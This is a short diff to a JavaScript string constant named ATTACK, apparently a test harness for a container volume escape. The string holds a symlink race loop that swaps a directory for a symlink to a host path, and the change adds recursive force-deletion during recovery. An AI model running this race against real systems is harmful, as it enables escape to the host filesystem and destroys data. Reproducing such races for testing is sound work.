@@ -40,9 +40,12 @@ const ATTACK = `
       fs.renameSync(at, at + '.link');
       fs.renameSync(at + '.dir', at);
     } catch {
-      tried(() => fs.rmdirSync(at));
-      tried(() => fs.renameSync(at, at + '.link'));
-      tried(() => fs.renameSync(at + '.dir', at));
+      // A preparation made a directory in this moment, maybe with others in it: the volume's own one comes back.
+      if (fs.existsSync(at + '.dir')) {
+        tried(() => fs.rmSync(at, { recursive: true, force: true }));
+        tried(() => fs.renameSync(at + '.dir', at));
+      }
+      tried(() => fs.symlinkSync(host, at + '.link'));
     }
     if (round % 500 === 0) process.stdout.write('.');
   }`;
